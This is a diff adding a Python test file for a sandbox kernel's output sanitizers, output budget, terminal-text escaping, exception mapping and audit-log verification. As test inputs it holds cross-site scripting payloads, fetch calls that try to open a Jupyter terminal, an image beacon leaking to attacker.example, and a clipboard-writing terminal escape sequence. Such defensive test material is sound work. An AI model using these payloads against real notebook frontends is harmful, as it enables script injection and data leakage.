@@ -1,0 +1,191 @@
+"""Host-side guards on what the sandbox hands to a browser, a terminal and the audit reader.
+
+active_content (sanitizer), output_budget (per-cell budget), terminal_text
+(printable), audit._open_sessions (a JSONL session without session_end) and
+results.exception_from_reply (BaseExceptions, a worker's own MemoryError).
+Pure host-side functions, run on real inputs (a real matplotlib SVG, a real
+audit log written by a real BASIC sandbox).
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import subprocess
+import sys
+import xml.dom.minidom
+from pathlib import Path
+
+import pytest
+
+from glsandbox_kernel import OSSandbox, create_config_by_level
+from glsandbox_kernel.active_content import clean_bundle, clean_frame, clean_markdown, clean_state, clean_svg
+from glsandbox_kernel.backends.registry import backends
+from glsandbox_kernel.exceptions import SandboxMemoryError, SandboxRemoteError
+from glsandbox_kernel.output_budget import OutputBudget
+from glsandbox_kernel.results import exception_from_reply
+from glsandbox_kernel.terminal_text import printable
+
+ACTIVE = ("<script", "onerror", "onload", "javascript:", "<iframe", "foreignObject")
+
+
+def _active(text: str) -> list[str]:
+    return [a for a in ACTIVE if a.lower() in text.lower()]
+
+
+def test_script_mimetypes_are_dropped_and_plain_data_kept() -> None:
+    notes: list[str] = []
+    data = {
+        "text/plain": "<b>kept as text</b>",
+        "application/json": {"html": "<script>data, not markup</script>"},
+        "image/png": "iVBORw0KGgo=",
+        "application/javascript": "fetch('/api/terminals', {method: 'POST'})",
+        "text/javascript; charset=utf-8": "x()",
+        "application/vnd.bokehjs_exec.v0+json": "",
+    }
+    out = clean_bundle(data, notes)
+    assert out == {k: data[k] for k in ("text/plain", "application/json", "image/png")}
+    assert any("application/javascript" in n for n in notes)
+
+
+def test_html_is_sanitized_by_an_allowlist() -> None:
+    markup = (
+        "<table class='dataframe'><tr><td style='color: red; position: fixed'>1</td></tr></table>"
+        "<script>fetch('/api/kernels')</script><img src=x onerror=alert(1)>"
+        "<img src='data:image/png;base64,AA'><a href='javascript:alert(1)'>l</a><a href='https://e.org'>ok</a>"
+        "<iframe srcdoc='<script>x()</script>'></iframe><svg><circle onload='x()'/></svg>"
+        "<img src='http://attacker.example/?leak=1'>"
+    )
+    notes: list[str] = []
+    html = clean_bundle({"text/html": markup}, notes)["text/html"]
+    assert not _active(html), html
+    assert "<td" in html and "color:red" in html and "position" not in html
+    assert 'src="data:image/png;base64,AA"' in html and "attacker.example" not in html
+    assert 'href="https://e.org"' in html
+    assert notes
+
+
+def test_unchanged_bundles_and_frames_are_returned_as_they_are() -> None:
+    data = {"text/plain": "x", "image/png": "AA"}
+    assert clean_bundle(data) is data
+    frame = {"type": "display_data", "data": data, "metadata": {}}
+    assert clean_frame(frame) is frame
+    stream = {"type": "stream", "name": "stdout", "text": "<script>"}
+    assert clean_frame(stream) is stream  # stream text is shown as text by every frontend
+
+
+def test_a_real_matplotlib_svg_stays_a_valid_image_without_scripts() -> None:
+    figure = pytest.importorskip("matplotlib.figure")
+    fig = figure.Figure()  # no pyplot: no global backend state in the test process
+    fig.subplots().plot([1, 2, 3], "o-")
+    buf = io.StringIO()
+    fig.savefig(buf, format="svg")
+    hostile = buf.getvalue().replace("</svg>", "<script>alert(1)</script><g onload='x()'/></svg>")
+    svg = clean_svg(hostile)
+    doc = xml.dom.minidom.parseString(svg)  # still XML with its namespaces, as an <img> needs
+    assert doc.documentElement.tagName == "svg"
+    assert len(doc.getElementsByTagName("use")) > 0 and len(doc.getElementsByTagName("path")) > 0
+    assert not _active(svg)
+
+
+def test_markdown_keeps_quotes_and_loses_scripts() -> None:
+    text = "# t\n> a quote <b onclick='x()'>bold</b>\n[a](javascript:alert(1)) [b](https://ok.example)"
+    out = clean_markdown(text)
+    assert out.startswith("# t\n> a quote <b>bold</b>")
+    assert "javascript:" not in out and "(https://ok.example)" in out
+
+
+def test_widget_state_html_and_output_bundles_are_cleaned() -> None:
+    notes: list[str] = []
+    state = {
+        "state": {
+            "value": "<img src=x onerror=\"fetch('/api/terminals')\">",
+            "placeholder": "a < b",
+            "outputs": [{"output_type": "display_data", "data": {"application/javascript": "x()", "text/plain": "p"}}],
+            "n": 3,
+            "_esm": "export function render() { fetch('/api/terminals', {method: 'POST'}) }",
+        },
+        "method": "update",
+    }
+    out = clean_state(state, notes)
+    assert out["state"]["value"] == "<img>"
+    assert out["state"]["placeholder"] == "a < b"  # plain text with "<" stays as it was
+    assert out["state"]["outputs"][0]["data"] == {"text/plain": "p"}
+    assert out["state"]["n"] == 3 and out["method"] == "update"
+    assert "_esm" not in out["state"]  # anywidget's module: code the browser would run
+    plain = {"state": {"value": 1.5, "description": "x"}}
+    assert clean_state(plain) is plain
+
+
+def test_output_budget_cuts_streams_with_one_notice_and_counts_the_rest() -> None:
+    budget = OutputBudget(limit=100)
+    first = budget.admit({"type": "stream", "name": "stdout", "text": "a" * 60})
+    assert [f["text"] for f in first] == ["a" * 60]
+    cut = budget.admit({"type": "stream", "name": "stdout", "text": "b" * 60})
+    assert cut[0]["text"] == "b" * 40 and "budget" in cut[1]["text"] and cut[1]["name"] == "stderr"
+    assert budget.admit({"type": "stream", "name": "stdout", "text": "c" * 10}) == []
+    assert budget.admit({"type": "display_data", "data": {"text/plain": "d" * 50}}) == []
+    error = {"type": "error", "ename": "ValueError", "evalue": "x", "traceback": []}
+    assert budget.admit(error) == [error]  # the cell's failure is still shown
+    fields = budget.record_fields()
+    assert fields["outputs_truncated"] is True and fields["outputs_dropped"] == 3
+    assert fields["outputs_dropped_bytes"] >= 20 + 10 + 50
+    assert budget.admit({"type": "clear_output", "wait": False})
+    assert budget.admit({"type": "stream", "name": "stdout", "text": "e"})  # cleared: room again
+    assert OutputBudget().record_fields() == {}
+
+
+def test_printable_escapes_terminal_controls() -> None:
+    payload = "ValueError: \r\x1b[2K[1/1] ok\x1b]52;c;ZWNobw==\x07\u202e\x9b\ud800 done\n\tnext"
+    out = printable(payload)
+    assert not any((ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in out), repr(out)
+    assert "\\x1b]52" in out and "\\u202e" in out and out.endswith("done\n\tnext")
+    out.encode("utf-8")  # lone surrogates escaped too
+    assert printable("plain text") == "plain text"
+
+
+@pytest.mark.parametrize("name", ["SystemExit", "KeyboardInterrupt", "GeneratorExit"])
+def test_base_exceptions_from_the_worker_are_remote_errors(name: str) -> None:
+    cfg = create_config_by_level("strict")
+    exc = exception_from_reply({"ename": name, "evalue": "stop", "builtin": True}, cfg, None)
+    assert isinstance(exc, SandboxRemoteError) and name in str(exc)
+    ok = exception_from_reply({"ename": "ValueError", "evalue": "v", "builtin": True}, cfg, None)
+    assert type(ok) is ValueError
+
+
+def test_a_worker_memory_error_under_the_limit_is_named_as_its_report() -> None:
+    cfg = create_config_by_level("strict")
+    limit = cfg.limits.memory_limit_bytes
+    assert limit is not None
+    reply = {"ename": "MemoryError", "evalue": "", "builtin": True, "memory_error": True}
+    claimed = exception_from_reply(reply, cfg, 17 << 20)
+    assert isinstance(claimed, SandboxMemoryError) and "as the worker reports" in str(claimed)
+    measured = exception_from_reply(reply, cfg, limit + 1)
+    assert isinstance(measured, SandboxMemoryError) and "peak measured outside" in str(measured)
+
+
+OK, WHY = backends()["basic"].available()
+
+
+@pytest.mark.skipif(not OK, reason=f"basic: {WHY}")
+def test_verify_warns_about_a_session_without_session_end(tmp_path: Path) -> None:
+    log = tmp_path / "a.jsonl"
+    cfg = create_config_by_level("strict", isolation_type="basic", audit_log_path=str(log))
+    with OSSandbox(cfg) as sb:
+        sb.execute(int, 3)
+    lines = log.read_text().splitlines(keepends=True)
+    cut = tmp_path / "cut.jsonl"
+    cut.write_text("".join(lines[:-1]))  # the session_end line cut off
+
+    def verify(*args: str) -> subprocess.CompletedProcess[str]:
+        cmd = [sys.executable, "-m", "glsandbox_kernel.cli", "audit", "verify", *args]
+        env = {k: v for k, v in os.environ.items() if k != "GLSANDBOX_AUDIT_KEY"}
+        return subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env)
+
+    whole = verify(str(log))
+    assert whole.returncode == 0 and "warning" not in whole.stdout, whole.stdout
+    res = verify(str(cut))
+    assert res.returncode == 0, res.stdout + res.stderr
+    assert "warning: session" in res.stdout and "no session_end" in res.stdout
+    strict = verify("--strict", str(cut))
+    assert strict.returncode == 1 and "no session_end" in strict.stdout
